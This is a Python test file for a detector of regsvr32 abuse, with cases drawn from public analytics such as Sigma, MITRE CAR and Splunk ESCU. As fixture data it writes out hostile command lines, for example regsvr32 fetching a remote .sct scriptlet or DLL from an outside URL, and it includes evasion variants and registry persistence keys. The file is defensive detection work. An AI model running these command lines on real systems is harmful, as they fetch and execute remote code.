"""One test per seed analytic, named after it: each is reproduced, with its known flaw fixed."""
import pytest

from support.events import load, proc, reg

pytestmark = pytest.mark.pure

SYS32 = "C:\\Windows\\System32\\regsvr32.exe"
WOW = "C:\\Windows\\SysWOW64\\regsvr32.exe"


def rules(detector, record):
    return set(detector.evaluate(record).rules)


def test_seed_veramine_suspicious_image_loads(detector):
    assert "R32-027" in rules(detector, load("C:\\Windows\\System32\\scrobj.dll"))
    assert "R32-028" in rules(detector, load("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll"))
    assert {"R32-025", "R32-029"} <= rules(detector, load(
        "C:\\Users\\bob\\AppData\\Roaming\\u.dll", signed="false", status="Unavailable", signature=""))
    assert rules(detector, load("C:\\Windows\\System32\\msxml6.dll")) == set()


def test_seed_veramine_child_processes(detector):
    child = proc("cmd.exe /c whoami", image="C:\\Windows\\System32\\cmd.exe", parent=SYS32)
    assert {"R32-017", "R32-018"} <= rules(detector, child)


def test_seed_veramine_icon_overlay_persistence(detector):
    key = ("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\ShellIconOverlayIdentifiers"
           "\\  SyncHelper\\(Default)")
    assert "R32-032" in rules(detector, reg(key, "{11111111-2222-3333-4444-555555555555}"))
    dropbox = key.replace("SyncHelper", "DropboxExt01")
    verdict = detector.evaluate(reg(dropbox, "{FB314ED9-A251-47B7-93E1-CDD82E34AF8B}"))
    assert verdict.score == 0 and verdict.allowlisted[0].startswith("R32-032 allowlisted: Dropbox")


@pytest.mark.parametrize("child, flagged", [
    ("C:\\Windows\\System32\\calc.exe", True),
    ("C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe", True),
    ("C:\\Windows\\System32\\WerFault.exe", False),        # CAR's own exclusions
    ("C:\\Windows\\System32\\wevtutil.exe", False),
    (WOW, False),                                          # the 64-to-32-bit re-launch
])
def test_seed_car_2019_04_002_children_of_regsvr32(detector, child, flagged):
    verdict = detector.evaluate(proc(child + " -u -p 4242 -s 96", image=child, parent=SYS32))
    assert ("R32-018" in verdict.rules) is flagged


@pytest.mark.parametrize("dll, flagged", [
    ("C:\\AtomicRedTeam\\atomics\\T1218.010\\bin\\AllTheThingsx86.dll", True),
    ("C:\\Users\\Public\\a.dll", True),
    ("C:\\Program Files\\Vendor\\a.dll", False),
    ("C:\\Windows\\Temp\\..\\System32\\a.dll", False),
])
def test_seed_car_2019_04_002_unsigned_image_loads(detector, dll, flagged):
    verdict = detector.evaluate(load(dll, signed="false", status="Unavailable", signature=""))
    assert ("R32-025" in verdict.rules) is flagged


@pytest.mark.parametrize("record", [
    {"EventCode": "4688", "NewProcessName": SYS32, "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
     "CommandLine": "regsvr32 /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll"},
    {"EventCode": "4688", "New_Process_Name": SYS32, "Creator_Process_Name": "C:\\Windows\\explorer.exe",
     "Process_Command_Line": "regsvr32.exe /u /i:C:\\Users\\Public\\a.sct scrobj.dll"},
    {"EventCode": "4688", "NewProcessName": SYS32, "CommandLine": "regsvr32 /s https://cdn.example.net/a.dll"},
], ids=["xml-url", "classic-scrobj", "url-module"])
def test_seed_qomplx_security_4688_scrobj_or_url(detector, record):
    assert rules(detector, record) & {"R32-001", "R32-002"}


@pytest.mark.parametrize("record, flagged", [
    # the image path in the command line does not hide the module (as it does from Sigma's rule)
    (proc(SYS32 + " /s C:\\Users\\bob\\Desktop\\x.dll"), True),
    (proc("regsvr32 /e x.dll", CurrentDirectory="C:\\Users\\bob\\Downloads\\"), True),
    (proc("regsvr32 /s C:\\Windows\\System32\\RpcProxy\\RpcProxy.dll"), False),
    (proc("regsvr32 /s /i C:\\Users\\bob\\x.dll"), False),      # /i: not this rule
    (proc("regsvr32 /s \"C:\\Program Files\\A\\x.dll\""), False),
])
def test_seed_sigma_ce2c44b5_implicit_dllregisterserver(detector, record, flagged):
    assert ("R32-006" in rules(detector, record)) is flagged


@pytest.mark.parametrize("cmd, flagged", [
    ("regsvr32 /s C:\\Users\\bob\\AppData\\Roaming\\x.tmp", True),
    ("regsvr32 /s C:\\ProgramData\\x.dll.jpg", True),             # '.dll' substring no cover
    ("regsvr32 /s C:\\ProgramData\\x.dat /i:decoy.dll", True),     # decoy argument no cover
    ("regsvr32 /s C:\\Windows\\Temp\\a.log", True),
    ("regsvr32 /s C:\\ProgramData\\x.ocx", False),
    ("regsvr32 /s C:\\Tools\\x.tmp", False),
])
def test_seed_escu_62732736_non_module_extension_in_writable_folder(detector, cmd, flagged):
    assert ("R32-008" in rules(detector, proc(cmd))) is flagged
